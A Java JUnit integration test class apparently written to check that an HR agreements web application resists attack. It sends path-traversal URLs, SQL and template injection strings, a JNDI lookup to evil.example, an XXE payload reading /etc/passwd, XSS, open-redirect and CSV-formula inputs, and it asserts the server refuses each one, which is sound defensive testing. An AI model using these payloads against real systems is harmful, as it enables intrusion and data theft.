package ma.ittifaq.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import ma.ittifaq.web.EndPoints;
import org.jboss.as.controller.client.ModelControllerClient;
import org.jboss.dmr.ModelNode;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The running server as somebody meets it who means harm: one test for each class of attack of issue 5, section 6. */
@OnServer
class AttackIT {

    private static final String EVIL = "https://evil.example";
    private static final Pattern FORMULA = Pattern.compile("(^|[,;\n\"])[=+@][^,;\n]", Pattern.MULTILINE);
    private static final String IMAGE = "<img src=x onerror=alert(1)>";
    private static final String FORM = "application/x-www-form-urlencoded";
    private static final List<String> TRACES = List.of("Exception", "at ma.ittifaq", "org.hibernate", "SQLException");

    // ---- headers and cookies

    @Test
    void everyAnswerForbidsSniffingFramingAndTellingWhereOneComesFrom() throws Exception {
        List<String> wrong = new ArrayList<>();
        SignedIn salma = SignedIn.as(Person.EMPLOYEE.user());
        SignedIn nobody = SignedIn.nobody();
        for (String path :
                List.of("/", "/agreements", "/account", "/no-such-page", "/agreements/new", "/delegations")) {
            headers(path, salma.get(path), wrong);
        }
        for (String path : List.of(
                "/login",
                "/verify",
                "/agreements",
                "/api/v1/me",
                "/api/v1/openapi.json",
                "/api/v1/no-such",
                "/api/v1/verifications/ABCDE-FGHJK-MNPQR",
                "/pki/ca.crl",
                "/calendar/none.ics",
                "/jakarta.faces.resource/styles/ittifaq.css.xhtml",
                "/jakarta.faces.resource/no-such.css.xhtml",
                "/favicon.ico")) {
            headers(path, nobody.get(path), wrong);
        }
        headers("/api/v1/me of somebody", Person.HR.api().get("/me"), wrong);
        String bound = "/agreements/"
                + Contract.json(Person.HR.api().get("/agreements?limit=1&state=ACTIVE"))
                        .at("/items/0/id")
                        .asText();
        headers("/api/v1" + bound + "/document.pdf", Person.HR.api().get(bound + "/document.pdf"), wrong);
        SignedIn nadia = SignedIn.as(Person.HR.user());
        for (String path : List.of(bound + "/pages/1.png", bound + "/document.pdf", "/account/data.json")) {
            headers(path, nadia.get(path), wrong);
        }
        headers("/api/v1/no-such of somebody", Person.HR.api().get("/no-such"), wrong);
        assertEquals("", String.join("\n", wrong));
    }

    private static void headers(String path, HttpResponse<byte[]> answer, List<String> wrong) {
        String where = answer.statusCode() + " " + path + ": ";
        String policy = answer.headers().firstValue("Content-Security-Policy").orElse("");
        require(wrong, where + "sniffing", has(answer, "X-Content-Type-Options", "nosniff"));
        require(wrong, where + "referrer", has(answer, "Referrer-Policy", "same-origin"));
        boolean page =
                answer.statusCode() == 200 && header(answer, "Content-Type").startsWith("text/html");
        require(wrong, where + "framing", !header(answer, "X-Frame-Options").isEmpty());
        require(
                wrong,
                where + "policy",
                policy.contains("frame-ancestors 'none'") || !page && !path.startsWith("/api"));
        require(
                wrong,
                where + "permissions",
                header(answer, "Permissions-Policy").contains("camera=()"));
        require(wrong, where + "opener", has(answer, "Cross-Origin-Opener-Policy", "same-origin"));
        require(wrong, where + "script", !policy.matches(".*script-src[^;]*'unsafe-(inline|eval)'.*"));
        require(wrong, where + "versions", Stream.of("Server", "X-Powered-By").allMatch(h -> header(answer, h)
                .isEmpty()));
        require(
                wrong,
                where + "cross origin",
                header(answer, "Access-Control-Allow-Origin").isEmpty());
        boolean kept = path.contains("jakarta.faces.resource") || path.contains("/pki/");
        require(wrong, where + "kept", kept || header(answer, "Cache-Control").contains("no-store"));
    }

    @Test
    void aPagesScriptsAreNamedByANonceOfItsOwn() throws Exception {
        Set<String> nonces = new TreeSet<>();
        for (int i = 0; i < 3; i++) {
            String policy = header(SignedIn.nobody().get("/login"), "Content-Security-Policy");
            assertTrue(policy.matches(".*script-src 'self' 'nonce-[^']{16,}'.*"), policy);
            nonces.add(policy.replaceAll(".*'nonce-([^']+)'.*", "$1"));
        }
        assertEquals(3, nonces.size(), "each once");
    }

    @Test
    void theSessionsCookieIsNotForScriptsNorForOtherSitesNorInAddresses() throws Exception {
        String planted = cookie(Wire.ask("GET /agreements/new HTTP/1.1", "Host: 127.0.0.1"));
        HttpResponse<byte[]> page = SignedIn.nobody().get("/login");
        List<String> set = page.headers().allValues("Set-Cookie");
        for (String cookie : set) {
            assertTrue(cookie.contains("HttpOnly") && cookie.contains("SameSite=Lax"), cookie);
        }
        String session = SignedIn.as(Person.EMPLOYEE.user()).session();
        assertFalse(session.isEmpty());
        assertFalse(session.equals(planted));
        String byAddress = Wire.ask("GET /agreements;jsessionid=" + session + " HTTP/1.1", "Host: 127.0.0.1");
        assertEquals(302, Wire.status(byAddress), "in the address it is worth nothing");
        String before = SignedIn.nobody().session();
        assertTrue(before.isEmpty() || !before.equals(session));
    }

    // ---- requests that others make one send

    @ParameterizedTest
    @ValueSource(strings = {"/login", "/logout", "/delegations", "/verify", "/archive/ask", "/account/alive"})
    void aFormOfAnotherSiteIsNotTaken(String path) throws Exception {
        SignedIn karim = SignedIn.as(Person.HEAD.user());
        for (String[] from : new String[][] {
            {"Origin", EVIL}, {"Origin", "null"}, {"Sec-Fetch-Site", "cross-site"}, {"Sec-Fetch-Site", "same-site"}
        }) {
            HttpResponse<byte[]> answer = karim.post(path, "x=1", from);
            assertEquals(403, answer.statusCode(), path + " " + String.join(" ", from));
        }
        assertEquals(200, karim.get("/account").statusCode(), "and nobody was signed out");
    }

    @Test
    void theApiTakesNoCookieAndNoFormForACall() throws Exception {
        String session = SignedIn.as(Person.EMPLOYEE.user()).session();
        Api nobody = Api.asNobody();
        byte[] body = "{\"kind\":\"initial\"}".getBytes(StandardCharsets.UTF_8);
        String cookie = "JSESSIONID=" + session;
        assertEquals(
                401,
                nobody.send("POST", "/agreements", Api.JSON, body, "Cookie", cookie)
                        .statusCode());
        for (String type : List.of("text/plain", FORM, "multipart/form-data", "application/xml")) {
            assertEquals(
                    415,
                    Person.EMPLOYEE
                            .api()
                            .send("POST", "/agreements", type, body)
                            .statusCode(),
                    type);
        }
        assertEquals(401, nobody.get("/me?access_token=x&token=y").statusCode());
    }

    // ---- ways round the doors

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/WEB-INF/web.xml",
                "/web-inf/web.xml",
                "/WEB-INF/classes/ma/ittifaq/web_fr.properties",
                "/META-INF/MANIFEST.MF",
                "/%57EB-INF/web.xml",
                "/login/../WEB-INF/web.xml",
                "/login/%2e%2e/WEB-INF/web.xml",
                "/login/%2e%2e%2fWEB-INF%2fweb.xml",
                "/login/..;/agreements",
                "/verify/..%2fagreements",
                "/verify/%2e%2e/admin/people",
                "/pki/../agreements",
                "/pki/..%5c..%5cagreements",
                "/jakarta.faces.resource/../WEB-INF/web.xml.xhtml",
                "/jakarta.faces.resource/web.xml.xhtml?ln=../WEB-INF",
                "/jakarta.faces.resource/..%2f..%2fweb.xml.xhtml",
                "/jakarta.faces.resource/web.xml.xhtml?con=../WEB-INF",
                "/resources/../pages/home.xhtml",
                "/pages/admin/people.xhtml",
                "//agreements",
                "/./agreements",
                "/agreements%00.css",
                "/api/v1/verifications/../agreements",
                "/api/v1/verifications/%2e%2e/agreements",
                "/api/v1/verifications/..;/agreements",
                "/API/v1/agreements"
            })
    void noWayOfWritingAnAddressOpensWhatIsShut(String path) throws Exception {
        String answer = Wire.ask("GET " + path + " HTTP/1.1", "Host: 127.0.0.1");
        int status = Wire.status(answer);
        assertTrue(
                status != 200 && status < 500,
                path + " " + answer.lines().findFirst().orElse(""));
        assertFalse(answer.contains("<web-app") || answer.contains("Implementation-Title"), path);
    }

    @Test
    void onlyTheMethodsOfAPageAreAnswered() throws Exception {
        SignedIn salma = SignedIn.as(Person.EMPLOYEE.user());
        for (String method : List.of("PUT", "DELETE", "PATCH", "TRACE", "PROPFIND", "OPTIONS")) {
            for (String path : List.of("/agreements", "/account", "/login", "/verify")) {
                int status = salma.send(method, path).statusCode();
                assertEquals(405, status, method + " " + path);
            }
        }
        HttpResponse<byte[]> overridden =
                Person.EMPLOYEE.api().post("/me/messages/x/read", "{}", "X-HTTP-Method-Override", "DELETE");
        assertTrue(overridden.statusCode() < 500);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "//evil.example",
                "https://evil.example",
                "/\\evil.example",
                "/%5cevil.example",
                "///evil.example",
                "http:evil.example",
                "/%09/evil.example",
                "javascript:alert(1)",
                "/login/../..//evil.example"
            })
    void afterTheSignInOnePutsNobodyElsewhere(String next) throws Exception {
        HttpResponse<byte[]> in = SignedIn.answerOf(Person.EMPLOYEE.user(), next);
        String to = in.headers().firstValue("Location").orElse("");
        assertEquals(302, in.statusCode());
        assertFalse(
                to.contains("evil")
                        && !to.startsWith("/")
                        && !to.startsWith(OurServer.at("").toString()),
                to);
        assertFalse(to.startsWith("//") || to.startsWith("/\\"), to);
    }

    /** Requests inside a connection that was upgraded in the clear pass a proxy unseen. */
    @Test
    void aConnectionInTheClearIsNotUpgraded() throws Exception {
        String answer = Wire.ask(
                "GET /login HTTP/1.1",
                "Host: 127.0.0.1",
                "Connection: close",
                "Connection: Upgrade, HTTP2-Settings",
                "Upgrade: h2c",
                "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA");
        assertEquals(200, Wire.status(answer), answer);
    }

    /** A cache or a mail that keeps an address must not keep one that the caller made up. */
    @Test
    void theNameThatACallerGivesTheServerIsNotRepeated() throws Exception {
        for (String path : List.of("/agreements", "/login?lang=fr")) {
            String answer =
                    Wire.ask("GET " + path + " HTTP/1.1", "Host: evil.example", "X-Forwarded-Host: evil.example");
            assertFalse(answer.lines().anyMatch(l -> l.startsWith("Location:") && l.contains("evil.example")), answer);
        }
    }

    // ---- what is sent in

    @ParameterizedTest
    @ValueSource(
            strings = {
                "' or '1'='1",
                "%' --",
                "\") or 1=1 --",
                "*:* OR {!func}",
                "${7*7}",
                "#{viewer.actor()}",
                "%00",
                "\u202Eabc",
                "<script>alert(1)</script>",
                "../../../etc/passwd",
                "\ud800",
                "${jndi:ldap://evil.example/x}"
            })
    void whatIsAskedForIsDataAndStaysIt(String text) throws Exception {
        String q = java.net.URLEncoder.encode(text, StandardCharsets.UTF_8);
        int all = items("/agreements?limit=200");
        assertTrue(items("/agreements?limit=200&q=" + q) < all, "nothing more is found by " + text);
        for (String path : List.of(
                "/agreements?state=" + q,
                "/agreements?sort=" + q,
                "/agreements?cursor=" + q,
                "/agreements?unit=" + q,
                "/directory/employees?q=" + q,
                "/agreements/" + q,
                "/me/messages?cursor=" + q,
                "/agreements?limit=" + q)) {
            harmless(path, Person.HR.api().get(path));
        }
        harmless("/archive/records", Person.ARCHIVIST.api().get("/archive/records?q=" + q));
        SignedIn nadia = SignedIn.as(Person.HR.user());
        for (String path :
                List.of("/agreements?q=" + q, "/admin/people?q=" + q, "/agreements?state=" + q, "/login?next=" + q)) {
            HttpResponse<byte[]> page = nadia.get(path);
            harmless(path, page);
            String html = Api.text(page);
            assertFalse(html.contains("<script>alert(1)") || html.contains("root:x:"), path);
            assertFalse(text.startsWith("$") && html.contains("value=\"49\""), path + " was computed");
        }
    }

    private static int items(String path) throws Exception {
        HttpResponse<byte[]> answer = Person.HR.api().get(path);
        harmless(path, answer);
        return answer.statusCode() == 200 ? Contract.json(answer).get("items").size() : 0;
    }

    private static void harmless(String where, HttpResponse<byte[]> answer) {
        assertTrue(answer.statusCode() < 500, answer.statusCode() + " " + where);
        String text = Api.text(answer);
        TRACES.forEach(trace -> assertFalse(text.contains(trace), where + " tells " + trace));
    }

    @Test
    void whatIsTooMuchOrTooDeepIsRefusedInWords() throws Exception {
        Api salma = Person.EMPLOYEE.api();
        assertEquals(
                413,
                salma.post("/agreements", "{\"kind\":\"" + "a".repeat(300_000) + "\"}")
                        .statusCode());
        for (String body : List.of(
                "[".repeat(100_000),
                "{\"terms\":" + "{\"a\":".repeat(30_000) + "1" + "}".repeat(30_000) + "}",
                "{\"terms\":{\"availability\":{\"phone\":1e400000000}}}",
                "{\"kind\":1e400000000}",
                "\u0000",
                "{\"kind\":\"initial\",\"kind\":{}}",
                "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>")) {
            HttpResponse<byte[]> answer = salma.post("/agreements", body);
            harmless(body.substring(0, Math.min(40, body.length())), answer);
            assertTrue(answer.statusCode() >= 400, "refused");
        }
        for (String header :
                List.of("Accept-Language: *;q=x,,;", "Cookie: lang=../../x; JSESSIONID=..", "If-Match: \"\u0001\"")) {
            int status = Wire.status(Wire.ask("GET /login HTTP/1.1", "Host: 127.0.0.1", header));
            assertTrue(status > 0 && status < 500, header + " " + status);
        }
        String many = Wire.ask("GET /login HTTP/1.1", "Host: 127.0.0.1", "X: " + "a".repeat(2_000_000));
        assertTrue(Wire.status(many) < 500);
    }

    /** Fields that the server sets and the caller may not: each is named and nothing is made. */
    @Test
    void nobodySetsWhatIsNotTheirsToSet() throws Exception {
        FreeHands.of(Person.EMPLOYEE.user());
        Api salma = Person.EMPLOYEE.api();
        for (String extra :
                List.of("state", "id", "initiator", "reference", "version", "sealed", "holder", "createdAt")) {
            HttpResponse<byte[]> answer =
                    salma.post("/agreements", "{\"kind\":\"initial\",\"" + extra + "\":\"SIGNED\"}");
            assertEquals(422, answer.statusCode(), extra);
            assertTrue(Api.text(answer).contains("\"" + extra + "\""), extra);
        }
        HttpResponse<byte[]> forAnother =
                salma.post("/agreements", "{\"kind\":\"initial\",\"employee\":\"" + id(Person.HEAD) + "\"}");
        assertEquals(404, forAnother.statusCode(), "a draft for somebody whom one does not lead");
    }

    private static String id(Person person) throws Exception {
        return Contract.json(person.api().get("/me")).at("/person/id").asText();
    }

    @Test
    void noIdCanBeGuessedFromAnother() throws Exception {
        Set<String> ids = new TreeSet<>();
        for (String list : List.of("/agreements?limit=200", "/directory/employees?limit=100")) {
            for (JsonNode item : Contract.json(Person.HR.api().get(list)).get("items")) {
                ids.add(item.get("id").asText());
            }
        }
        assertTrue(ids.size() > 20, "enough of them");
        for (String id : ids) {
            assertEquals(4, UUID.fromString(id).version(), "random: " + id);
        }
    }

    /** A file is what its bytes say, whatever it is called. */
    @Test
    void aFileIsTakenForWhatItIs() throws Exception {
        byte[] html = "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8);
        byte[] zip = {'P', 'K', 3, 4, 20, 0, 0, 0, 8, 0};
        for (byte[] file : List.of(html, zip, new byte[0])) {
            HttpResponse<byte[]> verdict = Api.asNobody().send("POST", "/verifications", "application/pdf", file);
            harmless("/verifications", verdict);
            assertFalse(Api.text(verdict).contains("\"valid\""), "no document of ours");
            for (String[] into : new String[][] {
                {"/directory/imports?dryRun=true", "text/csv"},
                {"/absences/imports/csv?dryRun=true", "text/csv"},
                {"/absences/imports/calendar?dryRun=true", "text/calendar"}
            }) {
                HttpResponse<byte[]> report = Person.HR.api().send("POST", into[0], into[1], file);
                harmless(into[0], report);
                assertFalse(Api.text(report).contains("\"applied\":true"), into[0]);
            }
        }
        assertEquals(
                415,
                Api.asNobody().send("POST", "/verifications", "text/html", html).statusCode());
    }

    /** What is written like markup or like a formula, through every list, page and table that shows it. */
    @Test
    void aTextIsATextWhereverItIsShown() throws Exception {
        String mark = mark();
        String people = "ppr;first_name_ar;last_name_ar;first_name_fr;last_name_fr;post_ar;post_fr;unit_code\n";
        for (String name : List.of("<img src=x onerror=alert(1)>", "=1+1", "a\u202Eb", "\u2067a")) {
            String line = mark + ";منى;الحجمي;Mouna;" + name + ";;;ANSN\n";
            assertEquals(422, imported(people + line).statusCode(), "no name: " + name);
        }
        taken(imported(
                "code;parent_code;kind;name_ar;name_fr\n" + mark + ";ANSN;SERVICE;<b>مصلحة</b>;" + "=1+1 " + IMAGE));
        taken(imported(people + mark + ";منى;الحجمي;Mouna;" + mark + ";<b>مكلفة</b>;" + IMAGE + ";" + mark + "\n"));
        String id = withdrawn(mark);
        int shown = 0;
        for (String language : List.of("fr", "ar")) {
            SignedIn hr = SignedIn.as(Person.HR.user());
            SignedIn archivist = SignedIn.as(Person.ARCHIVIST.user());
            SignedIn admin = SignedIn.as(Person.ADMINISTRATOR.user());
            shown += shown(admin, "/admin/people?lang=" + language + "&q=" + mark)
                    + shown(hr, "/admin/people?lang=" + language + "&q=" + mark)
                    + shown(hr, "/agreements/new?q=" + mark)
                    + shown(hr, "/agreements?q=" + mark)
                    + shown(hr, "/agreements/" + id)
                    + shown(hr, "/admin/acting")
                    + shown(archivist, "/archive?lang=" + language + "&q=" + mark)
                    + shown(archivist, "/archive/" + id);
        }
        assertTrue(shown >= 8, "it was shown, harmless: " + shown);
        onEveryPage(id);
        String table = Api.text(SignedIn.as(Person.ARCHIVIST.user()).get("/archive/records.csv?q=" + mark));
        assertTrue(table.toUpperCase(Locale.ROOT).contains(mark), table);
        assertFalse(FORMULA.matcher(table).find(), table);
        inEveryTable(id);
    }

    /** Every table there is, by whoever may take it out: nothing in it that a spreadsheet would reckon. */
    private static void inEveryTable(String id) throws Exception {
        List<EndPoints.EndPoint> files = EndPoints.all().stream()
                .filter(end -> end.door() != EndPoints.Door.API && !end.view().endsWith(".xhtml"))
                .toList();
        Set<String> read = new TreeSet<>();
        for (Person person : List.of(Person.HR, Person.ARCHIVIST, Person.AUDITOR, Person.ADMINISTRATOR)) {
            SignedIn session = SignedIn.as(person.user());
            for (EndPoints.EndPoint file : files) {
                HttpResponse<byte[]> answer = session.get(
                        Question.of(file, id).address().replace(".1", ".csv").replace("code=1", "code=csv"));
                assertTrue(answer.statusCode() < 500, answer.statusCode() + " " + file + " by " + person);
                String type = answer.headers().firstValue("Content-Type").orElse("");
                if (answer.statusCode() == 200 && type.startsWith("text/csv")) {
                    assertFalse(FORMULA.matcher(Api.text(answer)).find(), file + " by " + person);
                    read.add(file.path());
                }
            }
        }
        assertTrue(read.size() >= 4, "tables read: " + read);
    }

    /** Every page there is, by those who see most, while these texts are in the house. */
    private static void onEveryPage(String id) throws Exception {
        List<EndPoints.EndPoint> pages = EndPoints.all().stream()
                .filter(end -> end.door() == EndPoints.Door.PAGE && end.view().endsWith(".xhtml"))
                .toList();
        int read = 0;
        for (Person person : List.of(Person.HR, Person.ARCHIVIST, Person.ADMINISTRATOR)) {
            SignedIn session = SignedIn.as(person.user());
            for (EndPoints.EndPoint page : pages) {
                HttpResponse<byte[]> answer = session.get(Question.of(page, id).address());
                harmless(page.path(), answer);
                assertFalse(Api.text(answer).contains("<img src=x"), page.path() + " as " + person);
                read += answer.statusCode() == 200 ? 1 : 0;
            }
        }
        assertTrue(read > pages.size(), "pages read: " + read);
    }

    /** Letters that no other test writes. */
    private static String mark() {
        return "Q"
                + Long.toString(System.nanoTime() % 1_000_000_000, 26)
                        .toUpperCase(Locale.ROOT)
                        .chars()
                        .mapToObj(c -> String.valueOf((char) (Character.isDigit(c) ? 'Q' + c - '0' : c)))
                        .collect(Collectors.joining());
    }

    /** A draft that HR began for them and took back: a record of the archive. */
    private static String withdrawn(String mark) throws Exception {
        Api nadia = Person.HR.api();
        String person = Contract.json(nadia.get("/directory/employees?q=" + mark))
                .at("/items/0/id")
                .asText();
        String terms = Contract.served()
                .example("post", "/agreements", Api.JSON, "initial")
                .get("value")
                .get("terms")
                .toString();
        String body = "{\"kind\":\"initial\",\"employee\":\"" + person + "\",\"terms\":" + terms + "}";
        String id =
                Contract.json(taken(nadia.post("/agreements", body))).get("id").asText();
        taken(nadia.post("/agreements/" + id + "/moves", "{\"action\":\"withdraw\",\"note\":\"" + IMAGE + "\"}"));
        return id;
    }

    private static HttpResponse<byte[]> taken(HttpResponse<byte[]> answer) {
        assertTrue(answer.statusCode() / 100 == 2, answer.statusCode() + " " + Api.text(answer));
        return answer;
    }

    private static HttpResponse<byte[]> imported(String csv) throws Exception {
        return Person.HR.api().send("POST", "/directory/imports", "text/csv", csv.getBytes(StandardCharsets.UTF_8));
    }

    private static int shown(SignedIn who, String path) throws Exception {
        HttpResponse<byte[]> page = who.get(path);
        if (page.statusCode() == 302) {
            page = who.get(page.headers().firstValue("Location").orElseThrow());
        }
        harmless(path, page);
        String html = Api.text(page);
        assertFalse(html.contains("<img src=x") || html.contains("<b>الحجمي"), path);
        return html.contains("&lt;img src=x") || html.contains("&lt;b&gt;") || html.contains("&lt;b>") ? 1 : 0;
    }

    // ---- what is told

    @Test
    void secretsThatAreTypedAreInNoLog() throws Exception {
        String secret = "s3cret-" + UUID.randomUUID();
        Api.with("no.such." + UUID.randomUUID(), secret).get("/me");
        Api.bearing(secret).get("/me");
        SignedIn.attempt("nobody", secret);
        Person.EMPLOYEE
                .api()
                .post("/agreements/" + UUID.randomUUID() + "/signatures", "{\"password\":\"" + secret + "\"}");
        Wire.ask(
                "GET /login HTTP/1.1",
                "Host: 127.0.0.1",
                "Authorization: Basic " + secret,
                "Cookie: JSESSIONID=" + secret);
        String log = Files.readString(log(), StandardCharsets.UTF_8);
        assertTrue(log.length() > 1000, "it is the log");
        assertFalse(log.contains(secret), "a secret is in the log");
        assertFalse(
                log.contains("dGhlIGRlbW8=") || log.contains(Api.authorization("salma.idrissi")), "nor are headers");
    }

    private static Path log() throws Exception {
        ModelNode runtime = new ModelNode();
        runtime.get("operation").set("read-attribute");
        runtime.get("address").add("core-service", "platform-mbean").add("type", "runtime");
        runtime.get("name").set("system-properties");
        try (ModelControllerClient client = ModelControllerClient.Factory.create("127.0.0.1", OurServer.MANAGEMENT)) {
            return Path.of(
                    client.execute(runtime)
                            .get("result", "jboss.server.log.dir")
                            .asString(),
                    "server.log");
        }
    }

    private static String cookie(String answer) {
        return answer.lines()
                .filter(l -> l.startsWith("Set-Cookie: JSESSIONID="))
                .map(l -> l.replaceAll("Set-Cookie: JSESSIONID=([^;]+).*", "$1"))
                .findFirst()
                .orElse("");
    }

    private static boolean has(HttpResponse<byte[]> answer, String name, String value) {
        return header(answer, name).equals(value);
    }

    private static String header(HttpResponse<byte[]> answer, String name) {
        return answer.headers().firstValue(name).orElse("");
    }

    private static void require(List<String> wrong, String what, boolean fulfilled) {
        if (!fulfilled) {
            wrong.add(what);
        }
    }
}
